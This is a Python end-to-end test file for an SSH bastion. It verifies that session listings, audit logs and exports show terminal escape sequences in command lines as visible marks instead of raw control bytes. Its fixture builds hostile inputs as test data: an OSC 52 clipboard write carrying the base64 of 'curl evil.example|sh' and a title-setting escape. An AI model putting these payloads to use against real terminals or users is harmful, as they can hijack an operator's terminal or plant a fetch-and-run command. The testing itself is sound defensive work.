"""What operators and auditors read, end to end: a command line that carries terminal escapes.

A user runs, through the bastion with the real ssh client, a command whose text sets the terminal's
title (OSC 0), writes its clipboard (OSC 52) and has a newline in it; and one a deny rule refuses.
`bastion sessions list`, `bastion audit log` (table and --json) and the exports must show that text
with visible marks (␛, \\x07, ⏎) and one line per entry, never the raw ESC or BEL that would act on
the operator's terminal; only the recorded output, which a replay must show as it was, keeps them.
"""

from __future__ import annotations

import base64
import json
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from tests.conftest import BastionEnv, running_env

pytestmark = pytest.mark.e2e

DENIED = 77
RULES = """
[[rules]]
name = "allow-all"
effect = "allow"

[[rules]]
name = "no-deny-me"
effect = "deny"
exec = ["*deny-me*"]
message = "not this one"
"""

TITLE = "\x1b]0;pwned\x07"  # set the terminal's title
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example|sh").decode() + "\x07"  # write its clipboard
RAW = ("\x1b", "\x07")


@dataclass
class Recorded:
    env: BastionEnv
    marker: str
    session_id: str


def hostile_command(marker: str, tail: str) -> str:
    # printf of nothing: the escapes are only in the command line, which the bastion stores. A second
    # printf writes real escape sequences (bold) to the output: the recording keeps those.
    return f"printf '' '{TITLE}' '{CLIPBOARD}' '\nsecond line'; printf '\\033[1m%s\\033[0m\\n' {marker}{tail}"


@pytest.fixture(scope="module")
def recorded() -> Iterator[Recorded]:
    with running_env(RULES) as env:
        marker = f"op-views-{uuid.uuid4().hex[:8]}"
        ran = env.ssh(hostile_command(marker, ""))
        assert ran.returncode == 0, ran.stderr
        assert ran.stdout == f"\x1b[1m{marker}\x1b[0m\n".encode()
        session_id = env.latest_session(marker)

        refused = env.ssh(hostile_command(marker, " deny-me"))
        assert refused.returncode == DENIED, refused.stderr
        env.logged("policy.deny", lambda f: marker in f.get("text", "") and TITLE in f["text"])
        yield Recorded(env, marker, session_id)


def assert_no_raw(text: str) -> None:
    assert not any(char in text for char in RAW), f"raw ESC or BEL in {text!r}"


def test_sessions_list_shows_the_command_with_marks_one_row_per_session(recorded: Recorded) -> None:
    env = recorded.env
    table = env.bastion("sessions", "list").stdout
    listed = json.loads(env.bastion("sessions", "list", "--json").stdout)
    assert_no_raw(table)
    header, *rows = table.splitlines()
    assert header.startswith("SESSION ")
    # one line per session: the first word of every row is the next session's id, nothing in between
    assert [row.split(" ", 1)[0] for row in rows] == [session["id"] for session in listed]
    row = next(row for row in rows if row.startswith(recorded.session_id))
    assert "exec: printf '' '␛]0;pwned\\x0…" in row  # cut to its column, and shown to be cut


def test_sessions_list_json_escapes_the_command_exactly(recorded: Recorded) -> None:
    out = recorded.env.bastion("sessions", "list", "--json").stdout
    assert_no_raw(out)
    command = next(s["command"] for s in json.loads(out) if s["id"] == recorded.session_id)
    assert TITLE in command and CLIPBOARD in command and "\nsecond line" in command  # exact, escaped by JSON


def test_audit_log_shows_the_refused_command_with_marks_one_line_per_entry(recorded: Recorded) -> None:
    table = recorded.env.bastion("audit", "log").stdout
    assert_no_raw(table)
    lines = table.splitlines()
    # one line per entry: every line starts with its index, and the log's indices run without a gap
    seqs = [re.match(r"\s*(\d+) \d{4}-\d\d-\d\d \d\d:\d\d:\d\d ", line) for line in lines]
    assert all(seqs), [line for line, seq in zip(lines, seqs, strict=True) if not seq]
    assert [int(seq.group(1)) for seq in seqs if seq] == list(range(len(lines)))
    deny = next(line for line in lines if " policy.deny " in line and recorded.marker in line)
    assert "␛]0;pwned\\x07" in deny and "␛]52;c;" in deny and "⏎second line" in deny
    assert "rule=no-deny-me" in deny


def test_audit_log_json_works_and_escapes_control_characters(recorded: Recorded) -> None:
    out = recorded.env.bastion("audit", "log", "--json").stdout
    assert_no_raw(out)
    entries = [json.loads(line) for line in out.splitlines()]
    assert all(len(bytes.fromhex(entry["leaf_hash"])) == 32 for entry in entries)
    deny = next(e for e in entries if e["type"] == "policy.deny" and recorded.marker in e["fields"]["text"])
    assert TITLE in deny["fields"]["text"] and CLIPBOARD in deny["fields"]["text"]


def test_asciicast_header_and_markers_show_marks_and_the_output_stays_as_recorded(recorded: Recorded) -> None:
    cast = recorded.env.bastion("audit", "export", recorded.session_id, "--format", "asciicast").stdout
    first, *frames = cast.splitlines()
    header = json.loads(first)
    assert_no_raw(first)
    for value in (header["title"], *header["env"].values()):
        assert_no_raw(value)
    assert header["title"].startswith("alice@mcp-host as ")
    assert "printf '' '␛]0;pwned\\x07' '␛]52;c;" in header["title"] and "'⏎second line'" in header["title"]
    events = [json.loads(frame) for frame in frames]
    for label in (event[2] for event in events if event[1] == "m"):
        assert_no_raw(label)
    assert any(event[1] == "m" and "␛]0;pwned" in event[2] for event in events)
    # The recorded output is the session's content: its escape sequences are kept, for the replay.
    assert "".join(event[2] for event in events if event[1] == "o") == f"\x1b[1m{recorded.marker}\x1b[0m\n"


def test_text_export_shows_what_the_screen_showed(recorded: Recorded) -> None:
    text = recorded.env.bastion("audit", "export", recorded.session_id, "--format", "text").stdout
    assert_no_raw(text)
    assert text == f"{recorded.marker}\n"
